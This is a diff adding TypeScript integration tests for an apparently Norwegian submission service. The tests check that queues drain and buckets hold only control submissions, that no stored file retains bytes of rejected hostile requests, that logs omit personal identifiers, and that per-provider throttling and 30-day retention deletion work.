+    expect([...tracked].sort()).toEqual([...controls].sort());
+  });
+
+  it('afterwards the bucket holds only the controls’ originals and documents', async () => {
+    const { Contents = [] } = await hub.clients.s3.send(new ListObjectsV2Command({ Bucket: hub.resources.bucketName }));
+    expect(Contents.length).toBeGreaterThan(0);
+    for (const object of Contents) {
+      expect(
+        controls.some((c) => object.Key?.startsWith(`submissions/${c}/`)),
+        object.Key,
+      ).toBe(true);
+    }
+  });
+
+  it('afterwards every queue and dead-letter queue is empty', async () => {
+    const urls = [...Object.values(hub.resources.queueUrls), ...Object.values(hub.resources.deadLetterQueueUrls)];
+    const depth = async (url: string) => {
+      const { Attributes = {} } = await hub.clients.sqs.send(
+        new GetQueueAttributesCommand({
+          QueueUrl: url,
+          AttributeNames: ['ApproximateNumberOfMessages', 'ApproximateNumberOfMessagesNotVisible'],
+        }),
+      );
+      return Number(Attributes.ApproximateNumberOfMessages) + Number(Attributes.ApproximateNumberOfMessagesNotVisible);
+    };
+    // The controls' messages are deleted right after their delivery was recorded: wait for that, not a time.
+    let depths: number[] = [];
+    for (let i = 0; i < 100; i++) {
+      depths = await Promise.all(urls.map(depth));
+      if (depths.every((d) => d === 0)) break;
+      await new Promise((r) => setTimeout(r, 100));
+    }
+    expect(depths).toEqual(urls.map(() => 0));
+  });
+
+  it('afterwards no file in the data dir holds a byte of any hostile request', async () => {
+    const marker = Buffer.from(MARKER);
+    const files = await readdir(hub.dataDir, { recursive: true, withFileTypes: true });
+    const checked: string[] = [];
+    for (const file of files.filter((f) => f.isFile())) {
+      const path = join(file.parentPath, file.name);
+      const bytes = await readFile(path).catch(() => Buffer.alloc(0));
+      expect(bytes.includes(marker), path).toBe(false);
+      checked.push(path);
+    }
+    expect(checked.some((p) => p.includes('dynamodb'))).toBe(true);
+    expect(checked.some((p) => p.includes('arkivmelding.xml'))).toBe(true);
+  });
+
+  it('no log line holds a fødselsnummer or a name, from the corpus or the controls', () => {
+    const log = captured.join('\n');
+    expect(log).toContain('Delivered');
+    for (const value of NEVER_LOGGED) expect(log).not.toContain(value);
+  });
+});
+
+describe('throttling per provider in the local runner', () => {
+  it('answers 429 once a provider has used its share, and only that provider', async () => {
+    const read = () => send({ method: 'GET', path: '/v1/submissions/x', provider: 'treg-leverandor' });
+    // The Moss deployment allows its provider three requests and then (almost) nothing more.
+    expect((await read()).status).toBe(404);
+    expect((await read()).status).toBe(404);
+    expect((await read()).status).toBe(404);
+    const limited = await read();
+    expect(limited.status).toBe(429);
+    expect(limited.contentType).toMatch(/^application\/problem\+json/);
+    expect((await send({ method: 'GET', path: '/v1/submissions/x' })).status).toBe(404);
+  });
+});
+
+describe('retention', () => {
+  const deps = (days: number) => ({
+    registry: buildRegistry(hub.config),
+    store: new SubmissionStore(DynamoDBDocumentClient.from(hub.clients.dynamodb), hub.resources.tableName),
+    s3: hub.clients.s3,
+    bucket: hub.resources.bucketName,
+    now: () => new Date(Date.now() + days * 24 * 3600 * 1000),
+  });
+  const objects = async () =>
+    (await hub.clients.s3.send(new ListObjectsV2Command({ Bucket: hub.resources.bucketName }))).Contents ?? [];
+
+  it('keeps originals and documents until the retention has passed', async () => {
+    expect(await hub.runRetention()).toMatchObject({ deleted: 0 });
+    const report = await runRetention(deps(29));
+    expect(report).toMatchObject({ examined: controls.length, deleted: [] });
+    expect((await objects()).length).toBeGreaterThan(0);
+  });
+
+  it('deletes them once the archive has confirmed and 30 days have passed; the status stays', async () => {
+    const report = await runRetention(deps(31));
+    expect(report.deleted.sort()).toEqual([...controls].sort());
+    expect(await objects()).toEqual([]);
+    const status = await send({ method: 'GET', path: `/v1/submissions/${controls[0]}` });
+    expect(status.status).toBe(200);
+    expect(status.body.status).toBe('DELIVERED');
+  });
+});
